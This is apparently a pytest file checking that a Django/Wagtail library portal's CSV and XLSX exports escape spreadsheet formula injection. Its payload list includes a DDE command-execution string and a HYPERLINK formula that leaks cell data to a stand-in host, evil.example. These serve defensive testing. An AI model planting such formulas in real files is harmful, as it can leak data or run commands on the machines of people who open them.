"""Hole 6: every spreadsheet the portal exports (the inbox, the students list, Wagtail's
enquiry-form submissions), as CSV and as XLSX, holds no cell a spreadsheet would run as a formula.
The data goes in where outsiders and liaisons type it; the files come out of the real admin views."""

import csv
import io

import openpyxl
import pytest
from django.test import Client
from wagtail.contrib.forms.models import FormSubmission

from students.models import Assignment
from tests.factories import (
    EnquiryFormFieldFactory,
    EnquiryFormPageFactory,
    LiaisonPageFactory,
    MessageFactory,
    StudentFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1)",
    "-2+3",
    "+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+2",
    "\n-1",
]
PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def runs_as_formula(cell):
    return isinstance(cell, str) and (
        cell.startswith(PREFIXES) or cell.lstrip().startswith(PREFIXES)
    )


def download(client, url, export):
    """The export's rows of cells, from the admin view over HTTP."""
    response = client.get(f"{url}?export={export}")
    assert response.status_code == 200, url
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    formulas = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas, f"formula cells in the XLSX: {formulas}"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def assert_safe(rows, expected, export):
    """Each dangerous text is in the file as text: in a CSV behind an apostrophe, so no cell starts
    like a formula; in an XLSX as a text cell holding exactly it (``download`` checked that no
    cell is a formula)."""
    cells = [cell for row in rows for cell in row if cell is not None]
    if export == "csv":
        assert not [c for c in cells if runs_as_formula(c)]
        expected = [f"'{value}" for value in expected]
    else:  # XML reads a stored carriage return back as a line feed
        expected = [value.replace("\r", "\n") for value in expected]
    missing = [value for value in expected if value not in cells]
    assert not missing, f"not found as a cell: {missing}"


@pytest.fixture
def admin_client(client, db):
    client.force_login(UserFactory(email="root@library.example.edu", is_superuser=True))
    return client


@pytest.fixture
def hostile_liaison(site_tree):
    """A librarian who titles their profile as a formula: the inbox's Librarian column."""
    return LiaisonPageFactory(
        parent=site_tree["librarians"], title='=HYPERLINK("http://evil.example","Ada")'
    )


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_hole6_inbox_export_escapes_every_cell(admin_client, hostile_liaison, export):
    for payload in PAYLOADS:
        MessageFactory(
            liaison=hostile_liaison,
            subject=payload,
            sender_name=payload,
            sender_group=payload,
            body=payload,
        )
    rows = download(admin_client, "/admin/inbox/", export)
    assert len(rows) == 1 + len(PAYLOADS)
    assert_safe(rows, [*PAYLOADS, hostile_liaison.title], export)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_hole6_students_export_escapes_every_cell(admin_client, hostile_liaison, export):
    for payload in PAYLOADS:
        student = StudentFactory(name=payload, preferred_name=payload, level="Year 1")
        Assignment.objects.create(
            student=student, liaison=hostile_liaison, programme=student.programme, reason=payload
        )
    rows = download(admin_client, "/admin/students/", export)
    assert len(rows) == 1 + len(PAYLOADS)
    assert_safe(rows, [*PAYLOADS, hostile_liaison.title], export)


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_hole6_enquiry_submissions_export_escapes_every_cell(admin_client, enquiries, export):
    form_page = EnquiryFormPageFactory(parent=enquiries, title="Book a workshop")
    # a question a liaison labelled as a formula: its heading is a cell too
    EnquiryFormFieldFactory(page=form_page, label="=SUM(1)", field_type="multiline")
    question = form_page.get_form_fields()[0].clean_name
    # through the public form, as an anonymous visitor sends it (Django strips leading spaces)
    response = Client().post(
        form_page.url,
        {
            "sender_name": "=cmd|' /C calc'!A0",
            "sender_email": "x@example.org",
            question: "@SUM(1)",
            "contact_url": "",
        },
    )
    assert response.status_code == 200
    for payload in PAYLOADS:
        FormSubmission.objects.create(
            page=form_page,
            form_data={"sender_name": payload, "sender_email": "x@example.org", question: payload},
        )
    rows = download(admin_client, f"/admin/forms/submissions/{form_page.pk}/", export)
    assert len(rows) == 2 + len(PAYLOADS)
    assert_safe(rows, PAYLOADS, export)
    assert "'=SUM(1)" in rows[0]  # the heading, in both formats


def test_hole6_inbox_xlsx_export_keeps_a_message_with_control_characters(
    admin_client, hostile_liaison
):
    MessageFactory(liaison=hostile_liaison, subject="Bell", body="ring\x07 the\x1b bell")
    rows = download(admin_client, "/admin/inbox/", "xlsx")
    assert "ring the bell" in rows[1]
